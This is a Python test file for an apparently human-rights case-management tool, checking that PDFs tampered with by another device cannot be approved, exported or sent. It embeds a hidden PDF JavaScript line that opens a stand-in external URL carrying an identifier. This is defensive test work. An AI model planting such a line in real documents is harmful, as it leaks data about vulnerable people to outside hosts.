"""Pages leave only as they were set here or by a coordinator: a PDF of another device may
hold what no eye sees in it.

Everybody is made up.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from tests.attacks.kit import TODAY, Town, carry, told_once
from tests.attacks.test_asked_first import SCOPES
from tests.desk.conftest import frozen_now

from vsdesk.desk import Edit, How, SubmissionOrder
from vsdesk.errors import UserError
from vsdesk.records.consent.approval import is_frozen_by
from vsdesk.records.dossier import ids_in

if TYPE_CHECKING:
    from collections.abc import Callable

    from vsdesk.records.dictionary.values import Json

HIDDEN = b"\n% app.launchURL('https://made-up.example/?of=0944000111')\n"


@told_once
def _draft(made: Town) -> str:
    """Hala's, with a yes to it, at all three."""
    made.hala.consent.grant(
        made.case,
        made.mother,
        "un_complaint",
        "wgeid",
        "given",
        How(),
        scopes=SCOPES,
        shown=made.hala.cases.shown(made.case),
    )
    sub = made.hala.submissions.new(SubmissionOrder(made.case, "wgeid", owner="A1")).ids[0]
    carry(made.hala, made.stick, made.rima)
    carry(made.rima, made.stick, made.enemy.desk)
    return sub


def _freeze_with_more(made: Town, sub: str) -> str:
    """The enemy freezes again just what may leave, and puts bytes into the page that are
    seen nowhere: the digest."""
    made.rima.submissions.prepare(sub, because="اختبار")
    carry(made.rima, made.stick, made.enemy.desk)
    desk = made.enemy.desk
    view = desk.cases.record(sub)
    held = {
        desk.cases.record(one).text("mime"): desk.files.attachment(one)
        for one in ids_in(view.value("snapshot"))
    }
    page = held["application/pdf"] + HIDDEN
    told = json.loads(held["application/json"])
    told["papers"][0]["sha256"] = hashlib.sha256(page).hexdigest()
    data = json.dumps(told, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode()
    keep: list[Json] = [
        desk.consent.letters.keep_file(
            data, view.space, "submission_copy", "x.json", "application/json"
        ),
        desk.consent.letters.keep_file(
            page, view.space, "submission_copy", "x.pdf", "application/pdf"
        ),
    ]
    digest = hashlib.sha256(data).hexdigest()
    made.enemy.change(sub, "submission", {"snapshot": [*sorted(map(str, keep))], "digest": digest})
    made.enemy.hand_over(made.rima)
    return digest


def _ways(made: Town, sub: str, digest: str) -> list[Callable[[], object]]:
    rima = made.rima
    return [
        lambda: rima.submissions.approve(sub, frozen_now(rima, sub)),
        lambda: rima.submissions.approve(sub, digest),
        lambda: rima.submissions.papers(sub, frozen_now(rima, sub)),
        lambda: rima.submissions.papers(sub, digest),
        lambda: rima.submissions.sent(sub, TODAY, "email", looked=frozen_now(rima, sub)),
    ]


def test_a_page_of_another_device_leaves_by_no_way(made: Town) -> None:
    sub = _draft(made)
    digest = _freeze_with_more(made, sub)
    assert HIDDEN in made.rima.submissions.frozen(sub).pages[0].pdf  # on one's own screen alone
    for leave in _ways(made, sub, digest):
        with pytest.raises(UserError, match="E_SET_ELSEWHERE"):
            leave()
    assert not made.view(sub).value("approved")
    assert not made.rima.cases.dossier(made.case).of("disclosure")


def test_it_is_set_anew_and_that_leaves(made: Town) -> None:
    """Control: nobody is stopped; the page is this program's own."""
    sub = _draft(made)
    digest = _freeze_with_more(made, sub)
    ours = made.rima.submissions.prepare(sub, because="اختبار").digest
    assert ours != digest
    made.rima.submissions.approve(sub, ours)
    [paper] = made.rima.submissions.papers(sub, ours)
    assert HIDDEN not in paper.pdf
    carry(made.rima, made.stick, made.hala)
    assert (
        made.hala.submissions.papers(sub)[0].pdf == paper.pdf
    )  # a coordinator's is ours everywhere


def test_an_approval_of_before_lets_nothing_out(made: Town) -> None:
    """Approved when pages of others could be: the yes names just this digest, and it stays all the same."""
    sub = _draft(made)
    digest = _freeze_with_more(made, sub)
    said: dict[str, Json] = {"approved": True, "approved_digest": digest, "approved_by": "A1"}
    made.rima.context.vault.save([Edit("submission", said, id=sub)])
    with pytest.raises(UserError, match="E_SET_ELSEWHERE"):
        made.rima.submissions.papers(sub, digest)


def test_beside_what_a_coordinator_froze_it_is_set_anew_too(made: Town) -> None:
    sub = _draft(made)
    made.rima.submissions.prepare(sub, because="اختبار")
    carry(made.rima, made.stick, made.enemy.desk)
    made.enemy.change(sub, "submission", {"digest": "0" * 64}, replace=False)
    made.enemy.hand_over(made.rima)
    with pytest.raises(UserError, match="E_SET_ELSEWHERE"):
        made.rima.submissions.papers(sub, frozen_now(made.rima, sub))
    made.rima.submissions.prepare(sub, because="اختبار")
    assert made.rima.submissions.papers(sub, frozen_now(made.rima, sub))


def test_what_a_load_brought_was_set_by_nobody(made: Town) -> None:
    sub = _draft(made)
    made.rima.submissions.prepare(sub, because="اختبار")
    view, believes = made.view(sub), made.rima.context.vault.trust.believes
    assert is_frozen_by(view, believes)
    loaded = tuple(one._replace(by=f"{one.by}~{'0' * 16}") for one in view.fields["digest"])
    assert not is_frozen_by(replace(view, fields={**view.fields, "digest": loaded}), believes)
